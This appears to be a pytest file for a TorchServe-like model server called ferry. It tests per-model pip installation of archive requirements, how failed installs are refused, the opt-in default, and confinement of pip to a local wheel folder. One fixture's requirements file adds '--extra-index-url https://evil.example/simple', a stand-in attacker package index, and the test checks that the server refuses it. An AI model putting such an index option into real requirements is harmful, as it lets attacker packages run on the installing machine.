"""Per-model packages (TorchServe's ``install_py_dep_per_model``): an archive's
requirements file is pip-installed for its workers when the setting is on, and a failed
install is refused with pip's reason."""

from __future__ import annotations

from pathlib import Path

import pytest

from ferry.store.writer import ArchiveSpec, write_archive
from tests.fixtures.cli import run_ferry, serve_args
from tests.fixtures.models import HANDLERS
from tests.fixtures.server import ferry_server
from tests.fixtures.wheels import VALUE, write_wheel


def _archive(store: Path, name: str, requirement: str) -> str:
    scratch = store.parent / f"{name}-src"
    scratch.mkdir()
    wheel = write_wheel(scratch)
    requirements = scratch / "requirements.txt"
    requirements.write_text(requirement + "\n")
    spec = ArchiveSpec(
        model_name=name,
        handler=str(HANDLERS / "package_user_handler.py"),
        requirements_file=requirements,
        extra_files=(wheel,),
    )
    return write_archive(spec, store, force=True).name


@pytest.fixture
def store(tmp_path: Path) -> Path:
    folder = tmp_path / "store"
    folder.mkdir()
    _archive(folder, "packaged", f"./{write_wheel(tmp_path).name}")
    _archive(folder, "unreachable", "ferry-no-such-package==1.0")
    return folder


def test_the_requirements_are_installed_for_the_models_workers(store: Path, tmp_path: Path) -> None:
    with ferry_server(
        store, ["packaged=packaged.mar"], tmp_path, "--install-py-dep-per-model", "true"
    ) as server:
        with server.client() as client:
            response = client.post("/predictions/packaged", content=b"x")
        log = server.log()
    assert response.status_code == 200, log
    assert response.json()["value"] == VALUE
    assert "/packaged-packages-" in response.json()["file"]  # its own folder, not the server's
    assert "model packaged: installing its packages from requirements.txt" in log
    assert "installed with pip, which allowed_urls does not restrict" in log  # at start-up


def test_an_install_that_fails_refuses_the_registration_with_pips_reason(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An index nobody answers on (a closed loopback port), and no second try.
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    args = ("--enable-model-api", "--install-py-dep-per-model", "true")
    with ferry_server(store, [], tmp_path, *args) as server, server.management() as api:
        response = api.post("/models", params={"url": "unreachable.mar", "synchronous": "true"})
        assert response.status_code == 400, response.text
        body = response.json()
        assert body["type"] == "ModelException"
        assert body["message"].startswith(
            "Custom pip package installation failed for model unreachable: "
        )
        assert "ferry-no-such-package" in body["message"]
        assert api.get("/models").json() == {"models": []}


def test_nothing_is_installed_unless_the_server_opts_in(store: Path, tmp_path: Path) -> None:
    """Off by default, as in TorchServe: the handler's import fails and says so."""
    args = ("--enable-model-api",)
    with ferry_server(store, [], tmp_path, *args) as server, server.management() as api:
        params = {"url": "packaged.mar", "synchronous": "true", "initial_workers": "1"}
        response = api.post("/models", params=params)
        assert response.status_code == 500, response.text
        assert "No module named 'ferry_demo_dep'" in response.json()["message"]


def test_a_start_up_model_whose_install_fails_stops_start_up(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 51: a server that cannot load what it was told to load does not start
    (TorchServe logs it and answers /ping Healthy without the model); it says why."""
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    models = "unreachable=unreachable.mar,packaged=packaged.mar"
    args = ("--install-py-dep-per-model", "true", "--models", models)
    result = run_ferry(*serve_args(store, *args), cwd=tmp_path, timeout=300)
    assert result.returncode == 1, result.stderr[-2000:]
    assert (
        "start-up failed: Custom pip package installation failed for model unreachable"
        in result.stderr
    )


def test_pip_find_links_holds_pip_to_a_local_folder(store: Path, tmp_path: Path) -> None:
    """With ``pip_find_links`` (and no index), a requirement by name is installed from the
    folder, and an archive whose file names an index of its own is refused before pip
    runs. Nothing here can reach a network: pip gets ``--no-index``."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    write_wheel(wheels)
    _archive(store, "by_name", "ferry_demo_dep==1.0")
    _archive(store, "own_index", "ferry_demo_dep\n--extra-index-url https://evil.example/simple")
    args = ("--enable-model-api", "--install-py-dep-per-model", "true")
    restriction = ("--pip-find-links", str(wheels))
    with (
        ferry_server(store, [], tmp_path, *args, *restriction) as server,
        server.management() as api,
    ):
        params = {"url": "by_name.mar", "synchronous": "true", "initial_workers": "1"}
        registered = api.post("/models", params=params)
        assert registered.status_code == 200, registered.text
        with server.client() as client:
            answer = client.post("/predictions/by_name", content=b"x")
        refused = api.post("/models", params={"url": "own_index.mar", "synchronous": "true"})
        log = server.log()
    assert answer.status_code == 200, log
    assert answer.json()["value"] == VALUE
    assert f"from the folder {wheels} only" in log
    assert refused.status_code == 400, refused.text
    assert refused.json()["type"] == "ModelException"
    assert refused.json()["message"] == (
        "model own_index: requirements.txt line 2: the option --extra-index-url is refused: "
        "pip_index_url / pip_find_links restrict where pip installs from, and the archive "
        "cannot change that"
    )
